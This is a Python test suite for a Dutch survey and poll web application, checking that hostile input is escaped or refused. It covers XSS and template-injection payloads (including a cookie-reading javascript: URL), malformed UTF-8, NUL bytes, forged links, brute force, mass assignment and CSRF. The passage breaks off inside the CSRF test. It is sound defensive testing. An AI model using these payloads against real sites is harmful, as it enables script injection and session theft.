"""Hostile and malformed input: every attack is refused or rendered inert, and where the attack
should change nothing, the database is the same afterwards (row counts and a hash of every row).

The attacks, one or more tests each (the ids in brackets are the parametrized cases):
 1-10  script, event-handler, `javascript:`/`data:` and template payloads in every user-written
       field: user names (profile, admin invitation), organisation names (form, CSV import),
       survey text answers (page and summary), the respondent's name on shared links, poll
       questions and options, definition titles and questions, search boxes
 11    template syntax shown literally, never evaluated
 12-14 oversized bodies and too many form fields (urlencoded and multipart): 413
 15-19 malformed UTF-8 and NUL bytes in form bodies, query strings and paths: 400, never 500
 20    over-long answers: a field error, the other answers on the page kept
 21-23 forged, purged and opted-out invitation links: one page, same status and size
 24-25 forged, expired and used password-reset and account-invitation links: the same
 26-27 brute force on login and on token links: 429, with separate counters
 28-30 another survey's or poll's objects (resume link, page keys, question keys, vote form)
 31-32 extra form fields that try to change role, owner, organisation or survey: ignored
 33    missing, foreign and expired CSRF tokens: 400
 34    open redirects in `next=`
 35    sort and filter parameters outside the allow-list
 36    CR/LF in names reaching the log
 37-39 definition files: path traversal, symlinks out of surveys/, XML entities, YAML
       billion laughs and custom tags
"""

from __future__ import annotations

import base64
import logging
import re
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markupsafe import escape
from sqlalchemy import func, select
from wtforms.csrf.session import SessionCSRF

from app.core.models import utcnow
from app.extensions import db
from tests.helpers import Browserless, csrf_token_from, login, text_of

# -- payloads and how we check they are inert -------------------------------------------------

SCRIPT = '<script>alert("xss")</script>'
HANDLER = '"><img src=x onerror=alert(1)>'
SVG = "'><svg/onload=alert(1)>"
JS_URL = "javascript:alert(document.cookie)"
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
TEMPLATE = "{{7*7}} {% if 1 %}evaluated{% endif %} ${7*7} #{7*7}"
PAYLOADS = (SCRIPT, HANDLER, SVG, JS_URL, DATA_URL, TEMPLATE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data"}


class _Tags(HTMLParser):
    """Collects every start tag with its attributes, and the text inside <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.script_text.append(data)


def assert_inert(html: str, payload: str, shown: bool = True) -> None:
    """The payload is on the page as text only: escaped, no markup, no handler, no live URL.

    `shown=False` for Markdown, which shows the text in its own escaped form (or as a link).
    """
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag not in ("iframe", "object", "embed", "base"), f"<{tag}> injected"
        if tag == "img":
            assert dict(attrs).get("src") != "x", "<img> injected"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name}= on <{tag}>"
            if name in URL_ATTRIBUTES and value:
                assert not value.strip().lower().startswith(("javascript:", "data:")), f"{name}={value}"
    assert not parser.script_text, "inline script on the page"
    # Shown literally, "evaluated" follows "%}" (or its URL-encoded "%7D" in a link).
    assert not re.search(r"(?<![}D])evaluated", html), "template syntax was run"
    if any(c in payload for c in "<>\"'&"):
        assert payload not in html, "the payload is on the page unescaped"
    if shown:
        assert str(escape(payload)) in html or payload in html, "the payload is not shown at all"


LANGUAGE_LINK_RE = re.compile(r'href="/taal/(nl|en)\?next=[^"]*"')


CSRF_VALUE_RE = re.compile(r'(name="csrf_token"[^>]*value=")[^"]*"')


def page_body(response) -> str:
    """The page without the language-switch links (they lead back to the page's own path) and
    without CSRF token values (they carry the second they were made in)."""
    return CSRF_VALUE_RE.sub(r'\1"', LANGUAGE_LINK_RE.sub('href="/taal/"', text_of(response)))


def assert_template_literal(html: str) -> None:
    assert "{{7*7}}" in html
    assert not evaluated_49(html), "{{7*7}} was evaluated"


# Evaluated, the payloads would leave a bare 49 ("49 evaluated", "$49", "#49"). Token values, hex
# ids, ids in links ("/netwerken/49", "?id=49"), clock times ("16:49") and dates hold the digits
# too, so 49 counts only standing alone.
BARE_49_RE = re.compile(r"(?<![0-9A-Za-z:./=-])49(?![0-9A-Za-z:./-])")


def evaluated_49(html: str) -> bool:
    return bool(BARE_49_RE.search(CSRF_VALUE_RE.sub(r'\1"', html)))


# -- the database fingerprint ----------------------------------------------------------------


def test_the_fingerprint_notices_a_changed_row(app, make_user):
    from tests.security.conftest import fingerprint

    user = make_user(name="Voor")
    before = fingerprint()
    user.name = "Na"
    db.session.commit()
    after = fingerprint()
    assert before["users"][0] == after["users"][0] and before["users"][1] != after["users"][1]
    assert all(before[t] == after[t] for t in before if t != "users")


# -- 12-19: size limits, malformed UTF-8 and NUL bytes -----------------------------------------


def _login_token(client) -> str:
    return Browserless(client).token("/aanmelden")


def test_an_oversized_body_is_refused_with_413(app, client, unchanged):
    token = _login_token(client)
    with unchanged():
        response = client.post(
            "/wachtwoord-vergeten",
            data={
                "csrf_token": token,
                "email": "a@example.org",
                "pad": "x" * (app.config["MAX_CONTENT_LENGTH"] + 1),
            },
        )
    assert response.status_code == 413


def test_too_many_urlencoded_fields_are_refused_with_413(app, client, make_user, unchanged):
    """Before the fix: Werkzeug counts the fields of multipart bodies only; 1200 urlencoded
    fields were parsed and the login ran (200)."""
    user = make_user()
    fields = {f"f{i}": "1" for i in range(app.config["MAX_FORM_PARTS"] + 1)}
    fields.update(csrf_token=_login_token(client), email=user.email, password="correct horse battery")
    with unchanged():
        response = client.post("/aanmelden", data=fields)
    assert response.status_code == 413
    assert client.get("/profiel").status_code == 302  # not signed in


def test_too_many_multipart_fields_are_refused_with_413(app, client, unchanged):
    fields = {f"f{i}": "1" for i in range(app.config["MAX_FORM_PARTS"] + 1)}
    fields["csrf_token"] = _login_token(client)
    with unchanged():
        response = client.post("/wachtwoord-vergeten", data=fields, content_type="multipart/form-data")
    assert response.status_code == 413


def _raw_post(client, url: str, body: bytes):
    return client.post(url, data=body, content_type="application/x-www-form-urlencoded")


@pytest.mark.parametrize(
    "email",
    [
        b"a%FFb%40example.org",
        b"a%C3%28%40example.org",
        b"a\xff\xfe%40example.org",
        b"%ED%A0%80%40example.org",
    ],
    ids=["percent-ff", "percent-bad-continuation", "raw-bytes", "surrogate"],
)
def test_malformed_utf8_in_a_form_body_is_400(client, make_user, unchanged, email):
    """Before the fix: percent-encoded invalid UTF-8 stayed percent-encoded and the form ran."""
    make_user(email="a@example.org")
    body = b"csrf_token=" + _login_token(client).encode() + b"&email=" + email + b"&password=x"
    with unchanged():
        response = _raw_post(client, "/aanmelden", body)
        reset = _raw_post(client, "/wachtwoord-vergeten", body)
    assert response.status_code == 400 and reset.status_code == 400


@pytest.mark.parametrize(
    ("url", "environ"),
    [
        ("/?next=%FF", {}),
        ("/aanmelden?next=%C0%AF", {}),
        ("/", {"QUERY_STRING": "next=\xff\xfe"}),
        ("/beheer/organisaties/", {"QUERY_STRING": "q=caf\xe9"}),
    ],
    ids=["percent-ff", "overlong-slash", "raw-bytes", "latin-1"],
)
def test_malformed_utf8_in_the_query_string_is_400(client, url, environ, unchanged):
    """Before the fix: raw bytes in the query made the page template (request.full_path) raise: 500."""
    with unchanged():
        response = client.get(url, environ_overrides=environ)
    assert response.status_code == 400
    assert "Ongeldige aanvraag" in text_of(response)


@pytest.mark.parametrize(
    "path", ["/u/\xff\xfe", "/p/a\xc3", "/wachtwoord-instellen/\xed\xa0\x80", "/e/\xc0\xaf"]
)
def test_malformed_utf8_in_the_path_is_400(client, path, unchanged):
    with unchanged():
        response = client.get("/", environ_overrides={"PATH_INFO": path})
    assert response.status_code == 400


@pytest.mark.parametrize(
    ("method", "url", "data"),
    [
        ("get", "/u/abc%00def", None),
        ("get", "/p/x%00y", None),
        ("get", "/e/x%00y", None),
        ("get", "/wachtwoord-instellen/x%00y", None),
        ("get", "/beheer/organisaties/?q=%00", None),
        ("get", "/taal/en?next=/%00", None),
        ("post", "/aanmelden", {"email": "a\x00@example.org", "password": "x"}),
        ("post", "/wachtwoord-vergeten", {"email": "a@example.org\x00"}),
        ("multipart", "/wachtwoord-vergeten", {"email": "a\x00@example.org"}),
    ],
    ids=[
        "invitation-path",
        "poll-path",
        "public-path",
        "reset-path",
        "query",
        "next",
        "login-form",
        "reset-form",
        "multipart-form",
    ],
)
def test_nul_bytes_are_400_never_500(client, unchanged, method, url, data):
    """Before the fix: the login and reset forms, /e/ and /p/ ran their queries with the NUL byte:
    accepted on SQLite, a 500 on PostgreSQL (which refuses NUL in text)."""
    token = _login_token(client)
    with unchanged():
        if method == "get":
            response = client.get(url)
        else:
            extra = {"content_type": "multipart/form-data"} if method == "multipart" else {}
            response = client.post(url, data={**data, "csrf_token": token}, **extra)
    assert response.status_code == 400


def test_a_well_formed_accented_request_still_works(client, make_user):
    make_user(email="zoë@example.org", name="Zoë")
    assert client.get("/aanmelden?next=/caf%C3%A9").status_code == 200
    response = Browserless(client).post("/wachtwoord-vergeten", {"email": "zoë@example.org"})
    assert response.status_code == 302


# -- 1-11: payloads in every user-written field come out escaped and inert ---------------------


def _check_pages(client, urls, payloads=PAYLOADS):
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        html = text_of(response)
        for payload in payloads:
            assert_inert(html, payload)


def test_user_names_from_the_profile_are_inert(app, client, make_user):
    admin = make_user(role="admin")
    admin_client = app.test_client()
    login(admin_client, admin)
    forms = Browserless(client)
    for payload in PAYLOADS:
        user = make_user(name="Eerst")
        login(client, user)
        response = forms.post("/profiel", {"name": payload, "email": user.email, "locale": ""})
        assert response.status_code == 302
        db.session.expire_all()
        assert db.session.get(type(user), user.id).name == payload.strip()  # stored as written
        _check_pages(client, ["/profiel", "/"], [payload])
        _check_pages(admin_client, ["/beheer/gebruikers", f"/beheer/gebruikers/{user.id}"], [payload])
        forms.post("/afmelden", token_url="/profiel")
    assert_template_literal(text_of(admin_client.get("/beheer/gebruikers")))


def test_user_names_from_an_admin_invitation_are_inert(client, make_user):
    login(client, make_user(role="admin"))
    forms = Browserless(client)
    for n, payload in enumerate(PAYLOADS):
        response = forms.post(
            "/beheer/gebruikers/uitnodigen",
            {"name": payload, "email": f"new{n}@example.org", "role": "member"},
        )
        assert response.status_code == 302
    _check_pages(client, ["/beheer/gebruikers", "/beheer/gebruikers?q=new"])


def test_organisation_names_are_inert_on_every_page_that_shows_them(client, make_user, make_survey):
    login(client, make_user(role="admin"))
    forms = Browserless(client)
    for n, payload in enumerate(PAYLOADS):
        response = forms.post(
            "/beheer/organisaties/nieuw",
            {
                "name": payload,
                "service_type": "caw",
                "region": "antwerpen",
                "contact_email": f"o{n}@example.org",
            },
        )
        assert response.status_code == 302, text_of(response)[:300]
    from app.organisations.models import Organisation

    for org in db.session.scalars(select(Organisation)):
        _check_pages(client, [f"/beheer/organisaties/{org.id}"], [org.name])
    survey = make_survey()
    survey.closes_at = utcnow() + timedelta(days=20)
    db.session.commit()
    _check_pages(
        client,
        ["/beheer/organisaties/", f"/beheer/bevragingen/{survey.slug}/uitnodigen?soort=caw&regio=antwerpen"],
    )
    forms.post(
        f"/beheer/bevragingen/{survey.slug}/uitnodigen",
        {"soort": "caw", "regio": "antwerpen"},
        token_url=f"/beheer/bevragingen/{survey.slug}/uitnodigen",
    )
    _check_pages(client, [f"/beheer/bevragingen/{survey.slug}/uitnodigingen"])
    assert_template_literal(text_of(client.get("/beheer/organisaties/")))


def test_organisation_names_and_the_file_name_of_a_csv_import_are_inert(client, make_user):
    import io

    def cell(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    login(client, make_user(role="admin"))
    rejected = HANDLER + " (rejected)"
    lines = ["naam;soort;regio", *(f"{cell(p)};caw;antwerpen" for p in PAYLOADS), f"{cell(rejected)};nope;x"]
    data = "\n".join(lines).encode()
    filename = "<img src=x onerror=alert(1)>.csv"
    token = Browserless(client).token("/beheer/organisaties/importeren")
    response = client.post(
        "/beheer/organisaties/importeren",
        data={"csrf_token": token, "file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )
    html = text_of(response)
    assert response.status_code == 200 and "Geweigerde rijen" in html
    assert_inert(html, rejected)
    assert_inert(html, filename)
    confirm = {"csrf_token": csrf_token_from(html), "content": base64.b64encode(data).decode()}
    assert client.post("/beheer/organisaties/importeren/bevestigen", data=confirm).status_code == 302
    _check_pages(client, ["/beheer/organisaties/"])


def test_survey_text_answers_are_inert_on_the_page_and_the_summary(
    client, make_survey, make_invitation, respondent
):
    survey = make_survey()
    _invitation, token = make_invitation(survey)
    walk = respondent(client, f"/u/{token}")
    for payload in PAYLOADS:
        response = walk.answer_all(name=payload, remark=payload + "\n" + SCRIPT)
        assert "stap=overzicht" in response.location
        for html in (
            text_of(walk.get(stap="overzicht")),
            text_of(walk.get(pagina="dienst")),
            text_of(walk.get(pagina="slot")),
        ):
            assert_inert(html, payload)
    assert_template_literal(text_of(walk.get(stap="overzicht")))


def test_the_respondent_name_on_a_shared_link_is_inert(app, client, make_survey, make_invitation, respondent):
    survey = make_survey(anonymity="pseudonymous")
    _invitation, token = make_invitation(survey)
    walk = respondent(client, f"/u/{token}")
    colleague = respondent(app.test_client(), f"/u/{token}")
    for payload in PAYLOADS:
        walk.post({"name": payload})
        walk.page("dienst", {"q-dienst_naam": "x"})
        for html in (text_of(colleague.get()), text_of(colleague.get(pagina="dienst"))):
            assert "Laatst bewaard door" in html
            assert_inert(html, payload)


def test_poll_questions_and_options_are_inert_everywhere_they_show(client, make_user):
    login(client, make_user(role="admin"))
    forms = Browserless(client)
    question = f"{SCRIPT} {TEMPLATE}"
    options = "\n".join(PAYLOADS)
    response = forms.post(
        "/beheer/polls/nieuw",
        {
            "question_nl": question,
            "options_nl": options,
            "kind": "single",
            "show_results": "y",
            "slug": "xss",
        },
    )
    assert response.status_code == 302, text_of(response)[:500]
    pages = ["/p/xss", "/p/xss/embed", "/p/xss/presentatie", "/beheer/polls/xss", "/beheer/polls/"]
    _check_pages(client, pages, [question])
    _check_pages(client, pages[:4], PAYLOADS)
    data = client.get("/p/xss/resultaten.json")
    assert data.mimetype == "application/json" and data.headers["X-Content-Type-Options"] == "nosniff"
    assert_template_literal(text_of(client.get("/p/xss")))


HOSTILE_DEFINITION = """\
slug: vijandig
title: {{nl: "{p}", en: "{p}"}}
intro: {{nl: "{p}", en: "{p}"}}
purpose: {{nl: "{p}", en: "{p}"}}
organiser: {{nl: "{p}", en: "{p}"}}
anonymity: anonymous
pages:
  - key: een
    title: {{nl: "{p}", en: "{p}"}}
    questions:
      - key: keuze
        type: single_choice
        required: true
        text: {{nl: "{p}", en: "{p}"}}
        help: {{nl: "{p}", en: "{p}"}}
        options:
          - {{code: 1, label: {{nl: "{p}", en: "{p}"}}}}
          - {{code: 2, label: {{nl: "twee", en: "two"}}}}
"""


@pytest.mark.parametrize(
    "payload", PAYLOADS, ids=["script", "handler", "svg", "js-url", "data-url", "template"]
)
def test_titles_questions_and_options_of_a_definition_are_inert(
    app, client, make_user, make_invitation, respondent, payload
):
    from app.surveys.loader import load_definition_text
    from app.surveys.versions import sync_definition

    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    definition = load_definition_text(HOSTILE_DEFINITION.format(p=quoted), "surveys/vijandig.yaml")
    version, _outcome = sync_definition(definition, "surveys/vijandig.yaml")
    version.survey.open()
    db.session.commit()
    _invitation, token = make_invitation(version.survey)
    walk = respondent(client, f"/u/{token}")
    walk.post({})
    walk.page("een", {"q-keuze": "1"})
    for html in (text_of(walk.get()), text_of(walk.get(pagina="een")), text_of(walk.get(stap="overzicht"))):
        assert_inert(html, payload)
    staff = app.test_client()
    login(staff, make_user(role="admin"))
    _check_pages(staff, ["/beheer/bevragingen/", f"/beheer/bevragingen/{version.survey.id}"], [payload])


@pytest.mark.parametrize(
    "url", ["/beheer/gebruikers?q={}", "/beheer/organisaties/?q={}", "/aanmelden?next={}", "/taal/nl?next={}"]
)
def test_search_boxes_and_next_reflect_payloads_inertly(client, make_user, url):
    login(client, make_user(role="admin"))
    from urllib.parse import quote

    for payload in PAYLOADS:
        response = client.get(url.format(quote(payload)))
        if response.status_code == 302:  # the language switch: back to the home page
            assert response.headers["Location"] == "/"
            continue
        assert response.status_code == 200
        assert_inert(text_of(response), payload)


# -- 20: over-long answers ---------------------------------------------------------------------


def test_an_over_long_answer_is_a_field_error_and_the_other_answers_are_kept(
    client, make_survey, make_invitation, respondent
):
    from app.surveys.models import Draft

    survey = make_survey()
    _invitation, token = make_invitation(survey)
    walk = respondent(client, f"/u/{token}")
    walk.post({})
    response = walk.page("dienst", {"q-dienst_naam": "x" * 61, "q-medewerkers": "12", "q-kanaal": "2"})
    html = text_of(response)
    assert response.status_code == 200
    assert "Gebruik hoogstens 60 tekens (nu 61)." in html
    assert 'value="12"' in html and 'value="2" checked' in html  # the other answers are kept
    huge = walk.page("slot", {"q-opmerking": "y" * 100_000})
    assert huge.status_code == 200 and "Gebruik hoogstens 300 tekens" in text_of(huge)
    db.session.expire_all()
    answers = db.session.scalars(select(Draft.answers_json)).one()
    assert "x" * 61 not in answers and "y" * 301 not in answers
    assert '"medewerkers": 12' in answers and '"kanaal": 2' in answers


# -- 21-25: link tokens that do not work all look the same --------------------------------------


def _same_page(responses, tokens) -> None:
    """Same status, same size, and the same body once the token itself (in the language-switch
    link back to this page) is blanked out."""
    statuses = {r.status_code for r in responses}
    sizes = {len(r.get_data()) for r in responses}
    bodies = {text_of(r).replace(t, "TOKEN") for r, t in zip(responses, tokens, strict=True)}
    assert statuses == {404} and len(sizes) == 1 and len(bodies) == 1, (statuses, sizes)


def test_forged_purged_and_opted_out_invitation_links_get_one_page(
    client, make_survey, make_invitation, unchanged
):
    from app.privacy.services import purge

    survey = make_survey()
    _live, live_token = make_invitation(survey)
    purged, purged_token = make_invitation(survey)
    opted, opted_token = make_invitation(survey)
    purged.token_salt = purged.token_hash = None  # what retention does
    opted.opted_out_at = utcnow()
    db.session.commit()
    forged = live_token[:-4] + ("AAAA" if not live_token.endswith("AAAA") else "BBBB")
    assert purge is not None and len(forged) == len(purged_token) == len(opted_token)
    with unchanged():
        pages = [client.get(f"/u/{t}") for t in (forged, purged_token, opted_token)]
        posts = [
            Browserless(client).post(f"/u/{t}", {"actie": "versturen"}, token_url="/aanmelden")
            for t in (forged, purged_token, opted_token)
        ]
    _same_page(pages, (forged, purged_token, opted_token))
    _same_page(posts, (forged, purged_token, opted_token))
    assert "Deze link werkt niet" in text_of(pages[0])
    assert client.get(f"/u/{live_token}").status_code == 200


@pytest.mark.parametrize("purpose", ["reset", "invite"])
def test_forged_expired_and_used_account_links_get_one_page(app, client, make_user, purpose, unchanged):
    from app.accounts.models import AccountToken

    url = "/wachtwoord-instellen/" if purpose == "reset" else "/uitnodiging/"
    user = make_user()
    _live, live = AccountToken.issue(user, purpose, timedelta(hours=1))
    expired_row, expired = AccountToken.issue(user, purpose, timedelta(hours=1))
    used_row, used = AccountToken.issue(user, purpose, timedelta(hours=1))
    expired_row.expires_at = utcnow() - timedelta(minutes=1)
    used_row.used_at = utcnow()
    db.session.commit()
    forged = live[:-4] + ("AAAA" if not live.endswith("AAAA") else "BBBB")
    password = {"password": "een nieuw wachtwoord", "confirm": "een nieuw wachtwoord"}
    with unchanged():
        pages = [client.get(url + t) for t in (forged, expired, used)]
        posts = [
            Browserless(client).post(url + t, password, token_url="/aanmelden")
            for t in (forged, expired, used)
        ]
    _same_page(pages, (forged, expired, used))
    _same_page(posts, (forged, expired, used))
    assert client.get(url + live).status_code == 200


# -- 28-30: another survey's or poll's objects --------------------------------------------------


def test_a_resume_link_of_another_survey_is_a_missing_link(app, client, make_survey, respondent, unchanged):
    """Before the fix: the resume key was looked up without its survey, so survey B's public link
    adopted survey A's draft: B's address showed A's questions and answers, and a submit through
    B stored a response in A."""
    from app.surveys.models import Response

    first = make_survey(slug="eerste", public=True)
    second = make_survey(slug="tweede", public=True)
    owner = app.test_client()
    walk = respondent(owner, f"/e/{first.public_token}")
    walk.post({})
    walk.page("dienst", {"q-dienst_naam": "Geheim antwoord"})
    resume_url = re.search(r'class="resume-url">[^<]*?(/e/[^<]+)</a>', text_of(walk.get(pagina="dienst")))
    resume = resume_url.group(1).rsplit("/", 1)[1]
    forged = resume[:-2] + ("AA" if not resume.endswith("AA") else "BB")
    with unchanged():
        foreign = client.get(f"/e/{second.public_token}/verder/{resume}")
        missing = client.get(f"/e/{second.public_token}/verder/{forged}")
        assert foreign.status_code == missing.status_code == 404
        assert text_of(foreign).replace(resume, "X") == text_of(missing).replace(forged, "X")
        page = client.get(f"/e/{second.public_token}", query_string={"pagina": "dienst"})
        assert "Geheim antwoord" not in text_of(page)
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0
    assert client.get(f"/e/{first.public_token}/verder/{resume}").status_code == 302  # its own survey


def test_page_and_question_keys_of_another_survey_are_ignored(
    client, make_survey, make_invitation, respondent
):
    from app.surveys.loader import load_definition_text
    from app.surveys.models import Draft
    from app.surveys.versions import sync_definition

    survey = make_survey()
    other_text = HOSTILE_DEFINITION.format(p="ander").replace("key: een", "key: ander_blad")
    other_text = other_text.replace("key: keuze", "key: andere_vraag")
    sync_definition(load_definition_text(other_text, "surveys/vijandig.yaml"), "surveys/vijandig.yaml")
    db.session.commit()
    _invitation, token = make_invitation(survey)
    walk = respondent(client, f"/u/{token}")
    walk.post({})
    foreign = walk.get(pagina="ander_blad")
    made_up = walk.get(pagina="bestaat_niet")
    assert foreign.status_code == made_up.status_code == 302
    assert foreign.headers["Location"] == made_up.headers["Location"]
    walk.page("dienst", {"q-dienst_naam": "Eigen", "q-andere_vraag": "1", "q-opmerking": "ander blad"})
    db.session.expire_all()
    answers = db.session.scalars(select(Draft)).one().answers
    assert answers == {"dienst_naam": "Eigen"}


def test_a_vote_form_or_option_of_another_poll_is_refused_like_a_forged_one(client, make_poll, unchanged):
    from tests.helpers import csrf_token_from as csrf

    make_poll(slug="eerste")
    make_poll(slug="tweede", options=("Ja", "Nee", "Misschien"))
    first_html = text_of(client.get("/p/eerste"))
    form_token = re.search(r'name="form_token"[^>]*value="([^"]+)"', first_html).group(1)
    second_html = text_of(client.get("/p/tweede"))
    with unchanged():
        foreign = client.post(
            "/p/tweede", data={"csrf_token": csrf(second_html), "form_token": form_token, "keuze": "1"}
        )
        forged = client.post(
            "/p/tweede",
            data={"csrf_token": csrf(second_html), "form_token": form_token[:-3] + "xyz", "keuze": "1"},
        )
        assert foreign.status_code == forged.status_code == 400
        assert foreign.get_data() == forged.get_data() or len(foreign.get_data()) == len(forged.get_data())
        own_token = re.search(r'name="form_token"[^>]*value="([^"]+)"', first_html).group(1)
        unknown_code = client.post(
            "/p/eerste", data={"csrf_token": csrf(first_html), "form_token": own_token, "keuze": "3"}
        )
        assert unknown_code.status_code == 422  # poll "eerste" has two options; 3 is "tweede"'s


def test_hidden_poll_results_are_404_like_a_missing_poll(client, make_poll):
    poll = make_poll(slug="verborgen")
    poll.show_results = False
    db.session.commit()
    hidden = [client.get("/p/verborgen/resultaten.json"), client.get("/p/verborgen/presentatie")]
    missing = [client.get("/p/bestaatniet/resultaten.json"), client.get("/p/bestaatniet/presentatie")]
    for a, b in zip(hidden, missing, strict=True):
        assert a.status_code == b.status_code == 404
        assert page_body(a) == page_body(b)


# -- 26-27: brute force: 429, and each kind has its own counter ---------------------------------


def _fail_login(client, email: str, times: int) -> list[int]:
    forms = Browserless(client)
    return [
        forms.post("/aanmelden", {"email": email, "password": "fout wachtwoord"}).status_code
        for _ in range(times)
    ]


def test_login_brute_force_is_429_and_leaves_reset_links_working(app, client, make_user, unchanged):
    from app.accounts.models import AccountToken

    user = make_user()
    _row, reset = AccountToken.issue(user, "reset", timedelta(hours=1))
    db.session.commit()
    with unchanged():
        statuses = _fail_login(client, user.email, app.config["LOGIN_MAX_FAILURES"] + 1)
        right = Browserless(client).post(
            "/aanmelden", {"email": user.email, "password": "correct horse battery"}
        )
    assert statuses[:-1] == [200] * app.config["LOGIN_MAX_FAILURES"] and statuses[-1] == 429
    assert right.status_code == 429  # locked, even with the right password
    assert client.get(f"/wachtwoord-instellen/{reset}").status_code == 200  # its own counter
    assert client.get("/wachtwoord-instellen/" + "x" * len(reset)).status_code == 404


def test_reset_token_brute_force_is_429_and_leaves_login_working(client, make_user, unchanged):
    user = make_user()
    with unchanged():
        statuses = [client.get(f"/wachtwoord-instellen/geraden{n:04d}").status_code for n in range(31)]
        invite_statuses = [client.get(f"/uitnodiging/geraden{n:04d}").status_code for n in range(3)]
    assert statuses[:30] == [404] * 30 and statuses[30] == 429
    assert client.get("/wachtwoord-instellen/nog-een").headers["Retry-After"]
    assert invite_statuses == [404] * 3  # account invitations count separately
    assert login(client, user).status_code == 302  # the login has its own counter


def test_invitation_link_brute_force_is_429_and_leaves_real_links_and_login_working(
    app, client, make_user, make_survey, make_invitation, unchanged
):
    """Before the fix: /u/<token>, resume and opt-out links could be guessed without any limit."""
    survey = make_survey(public=True)
    _invitation, token = make_invitation(survey)
    limit = app.config["SURVEY_LINK_MAX_FAILURES"]
    with unchanged():
        statuses = [client.get(f"/u/geraden{n:04d}").status_code for n in range(limit - 2)]
        statuses.append(client.get(f"/e/{survey.public_token}/verder/geraden").status_code)
        statuses.append(client.get("/u/geraden/afmelden").status_code)
        refused = [client.get(u) for u in ("/u/nog-een", f"/u/{token}", f"/e/{survey.public_token}/verder/x")]
    assert statuses == [404] * limit
    assert {r.status_code for r in refused} == {429}
    assert client.get(f"/e/{survey.public_token}").status_code == 200  # the public link is not secret
    assert login(client, make_user()).status_code == 302
    other = app.test_client()
    other.environ_base["REMOTE_ADDR"] = "198.51.100.9"  # another address has its own count
    assert other.get(f"/u/{token}").status_code == 200


# -- 31-32: extra form fields that try to change owner, role, organisation or survey ------------


def test_extra_profile_fields_cannot_change_role_status_or_session(client, make_user):
    from app.accounts.models import User

    user = make_user(role="member")
    other = make_user(role="member")
    login(client, user)
    response = Browserless(client).post(
        "/profiel",
        {
            "name": "Nieuwe naam",
            "email": user.email,
            "locale": "",
            "role": "admin",
            "is_active_account": "y",
            "session_version": "1",
            "id": str(other.id),
            "user_id": str(other.id),
            "password_hash": "x",
        },
    )
    assert response.status_code == 302
    db.session.expire_all()
    me, them = db.session.get(User, user.id), db.session.get(User, other.id)
    assert (me.name, me.role, me.password_hash != "x") == ("Nieuwe naam", "member", True)
    assert them.name != "Nieuwe naam"
    assert client.get("/beheer/gebruikers").status_code == 403  # still a member


def test_an_admin_cannot_invite_an_unknown_role(client, make_user, unchanged):
    login(client, make_user(role="admin"))
    with unchanged():
        response = Browserless(client).post(
            "/beheer/gebruikers/uitnodigen", {"name": "X", "email": "x@example.org", "role": "superadmin"}
        )
    assert response.status_code == 200 and 'aria-invalid="true"' in text_of(response)


def test_extra_flow_fields_cannot_change_organisation_survey_or_user(
    client, make_survey, make_invitation, make_organisation, make_user, respondent
):
    from app.invitations.models import Invitation
    from app.surveys.models import Answer, Response

    survey = make_survey(anonymity="identified")
    other_survey = make_survey(slug="ander")
    invitation, token = make_invitation(survey)
    stranger_org = make_organisation()
    stranger = make_user()
    walk = respondent(client, f"/u/{token}")
    forged = {
        "organisation_id": str(stranger_org.id),
        "survey_id": str(other_survey.id),
        "version_id": "999",
        "user_id": str(stranger.id),
        "response_id": "1",
        "submitted_at": "2000-01-01T00:00:00",
        "q-onbekend": "x",
    }
    walk.post(forged)
    walk.page("dienst", {"q-dienst_naam": "Eigen dienst", **forged})
    walk.page("slot", {"q-opmerking": "ok", **forged})
    assert walk.post({"actie": "versturen", **forged}, stap="overzicht").status_code == 302
    db.session.expire_all()
    response = db.session.scalars(select(Response)).one()
    assert (response.survey_id, response.organisation_id, response.user_id) == (
        survey.id,
        invitation.organisation_id,
        None,
    )
    assert response.submitted_at is None or response.submitted_at.year > 2000
    assert set(db.session.scalars(select(Answer.variable))) == {"dienst_naam", "opmerking"}
    assert db.session.get(Invitation, invitation.id).response_id == response.id


def test_extra_poll_fields_cannot_change_creator_or_poll(client, make_user, make_poll):
    from app.polls.models import Poll, PollBallot

    staff = make_user(role="researcher")
    other = make_user(role="admin")
    target = make_poll(slug="doelwit")
    login(client, staff)
    response = Browserless(client).post(
        "/beheer/polls/nieuw",
        {
            "question_nl": "Eigen vraag",
            "options_nl": "a\nb",
            "kind": "single",
            "slug": "eigen",
            "created_by_id": str(other.id),
            "id": str(target.id),
            "source_path": "surveys/polls/x.yaml",
        },
    )
    assert response.status_code == 302
    db.session.expire_all()
    own = db.session.scalar(select(Poll).where(Poll.slug == "eigen"))
    assert own.id != target.id and own.created_by_id == staff.id and own.source_path is None
    assert db.session.get(Poll, target.id).question_nl != "Eigen vraag"
    html = text_of(client.get("/p/eigen"))
    token = re.search(r'name="form_token"[^>]*value="([^"]+)"', html).group(1)
    client.post(
        "/p/eigen",
        data={
            "csrf_token": csrf_token_from(html),
            "form_token": token,
            "keuze": "1",
            "poll_id": str(target.id),
        },
    )
    ballots = db.session.scalars(select(PollBallot.poll_id)).all()
    assert ballots == [own.id]


# -- 33: CSRF ----------------------------------------------------------------------------------


@pytest.mark.parametrize("case", ["missing", "foreign", "expired", "made-up"])
def test_posts_without_a_valid_csrf_token_are_400_and_change_nothing(
    app, client, make_user, make_survey, make_invitation, make_poll, monkeypatch, unchanged, case
):
    user = make_user(role="admin")
    survey = make_survey()
    _invitation, link = make_invitation(survey)
    make_poll(slug="csrf")
    login(client, user)
    stranger = app.test_client()
    tokens = {
        "missing": None,
        "foreign": Browserless(stranger).token(),
        "expired": Browserless(client).token("/profiel"),
        "made-up": "20991231235959##" + "0" * 40,
    }
    if case == "expired":
